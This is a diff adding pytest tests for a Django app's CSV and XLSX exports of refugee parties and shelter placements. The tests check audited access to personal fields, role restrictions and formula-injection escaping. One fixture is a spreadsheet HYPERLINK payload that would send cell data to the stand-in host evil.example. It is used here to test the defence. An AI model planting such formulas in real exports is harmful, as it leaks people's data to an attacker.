@@ -1,0 +1,160 @@
+"""Exports of parties and placements, as CSV and XLSX: personal fields only when asked
+(and then audited), every cell guarded against formula injection."""
+
+import csv
+import io
+
+import openpyxl
+import pytest
+
+from arrivals.models import Placement, PlacementStatus
+from privacy.models import AuditEntry
+from spreadsheets.cells import FORMULA_START, cell_safe
+from tests import factories
+
+pytestmark = pytest.mark.django_db
+
+EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+@pytest.fixture
+def parties(city):
+    shelter = factories.ShelterFactory(city=city, name="@School 12")
+    space = factories.SpaceFactory(shelter=shelter, name="-Hall", beds=10)
+    family = factories.PartyFactory(
+        city=city,
+        contact_phone="+7 701 555 0101",
+        notes="+needs a cot",
+        registration_point="\tStation",
+        members=[
+            {"given_name": EVIL, "family_name": "Nurlanova", "sex": "female"},
+            {"given_name": "Dana", "family_name": "-Nurlanova", "age_group": "child"},
+        ],
+    )
+    Placement.objects.create(
+        party=family, space=space, beds=2, status=PlacementStatus.HELD, created_by="matcher"
+    )
+    alone = factories.PartyFactory(city=city, members=[{"given_name": "Ivan"}])
+    factories.PartyFactory(members=[{"given_name": "Elsewhere"}])  # another city
+    return family, alone
+
+
+def get(client, path, city, fmt="csv", **params):
+    return client.get(path, {"city": str(city.id), "format": fmt, **params})
+
+
+def table(answer, fmt) -> list[list]:
+    assert answer.status_code == 200, answer.content
+    if fmt == "csv":
+        assert answer["Content-Type"].startswith("text/csv")
+        text = answer.content.decode("utf-8-sig")
+        return list(csv.reader(io.StringIO(text)))
+    assert answer["Content-Type"].startswith("application/vnd.openxmlformats")
+    workbook = openpyxl.load_workbook(io.BytesIO(answer.content))
+    sheet = workbook.active
+    for row in sheet.iter_rows():
+        for cell in row:
+            assert cell.data_type != "f", cell.coordinate  # no formula in any cell
+    return [["" if v is None else v for v in row] for row in sheet.iter_rows(values_only=True)]
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_parties_without_personal_fields_by_default(coordinator_client, city, parties, fmt):
+    answer = get(coordinator_client, "/api/v1/exports/parties/", city, fmt)
+    rows = table(answer, fmt)
+    header, body = rows[0], rows[1:]
+    assert answer["Cache-Control"] == "no-store"
+    assert f".{fmt}" in answer["Content-Disposition"]
+    for name in ("given_name", "family_name", "contact_phone", "notes"):
+        assert name not in header
+    assert len(body) == 3  # one row per member of the city's parties
+    flat = repr(rows)
+    assert "Nurlanova" not in flat and "555" not in flat and "Ivan" not in flat
+    assert not AuditEntry.objects.exists()
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_personal_fields_when_asked_and_audited(
+    coordinator_client, coordinator, city, parties, fmt
+):
+    family, alone = parties
+    rows = table(
+        get(coordinator_client, "/api/v1/exports/parties/", city, fmt, personal="true"), fmt
+    )
+    header = rows[0]
+    records = [dict(zip(header, row, strict=True)) for row in rows[1:]]
+    dana = next(r for r in records if r["given_name"] == "Dana")
+    assert dana["family_name"] == "'-Nurlanova"
+    assert dana["contact_phone"] == "'+7 701 555 0101"  # a phone starting with + is guarded too
+    assert dana["shelter"] == "'@School 12"
+    # Reading the family's names and phone is in the audit trail, once, by the coordinator;
+    # the party without any personal data has nothing to record.
+    reads = AuditEntry.objects.filter(action="read", object_type="party")
+    assert list(reads.values_list("object_id", "actor_id")) == [(str(family.id), coordinator.id)]
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_no_exported_cell_starts_a_formula(coordinator_client, city, parties, fmt):
+    for path, params in (
+        ("/api/v1/exports/parties/", {"personal": "true"}),
+        ("/api/v1/exports/placements/", {}),
+    ):
+        rows = table(get(coordinator_client, path, city, fmt, **params), fmt)
+        cells = [cell for row in rows for cell in row if isinstance(cell, str)]
+        assert cells
+        assert not [cell for cell in cells if cell.startswith(FORMULA_START)], path
+    rows = table(
+        get(coordinator_client, "/api/v1/exports/parties/", city, fmt, personal="true"), fmt
+    )
+    assert f"'{EVIL}" in [cell for row in rows for cell in row]
+
+
+def test_placements(coordinator_client, city, parties):
+    family, _alone = parties
+    rows = table(get(coordinator_client, "/api/v1/exports/placements/", city), "csv")
+    records = [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
+    assert [(r["party"], r["space"], r["beds"], r["status"]) for r in records] == [
+        (family.code, "'-Hall", "2", "held")
+    ]
+    rows = table(
+        get(coordinator_client, "/api/v1/exports/placements/", city, status="ended"), "csv"
+    )
+    assert rows[1:] == []
+
+
+def test_exports_are_for_the_citys_coordinators(
+    volunteer_client, manager_client, other_coordinator_client, city, parties
+):
+    for path in ("/api/v1/exports/parties/", "/api/v1/exports/placements/"):
+        assert get(volunteer_client, path, city).status_code == 403
+        assert get(manager_client, path, city).status_code == 403
+        assert get(other_coordinator_client, path, city).status_code == 404
+    assert not AuditEntry.objects.exists()
+
+
+def test_bad_queries_answer_400_in_json(coordinator_client, city):
+    answer = coordinator_client.get("/api/v1/exports/parties/", {"city": "nope", "format": "xlsx"})
+    assert answer.status_code == 400
+    assert "city" in answer.json()
+    answer = get(coordinator_client, "/api/v1/exports/parties/", city, personal="perhaps")
+    assert answer.status_code == 400
+    assert "personal" in answer.json()
+    assert get(coordinator_client, "/api/v1/exports/parties/", city, "pdf").status_code == 404
+
+
+@pytest.mark.parametrize(
+    ("value", "expected"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+7 701", "'+7 701"),
+        ("-5", "'-5"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tx", "'\tx"),
+        ("Ivan", "Ivan"),
+        ("", ""),
+        (5, 5),
+        (None, None),
+    ],
+)
+def test_the_one_guard(value, expected):
+    assert cell_safe(value) == expected
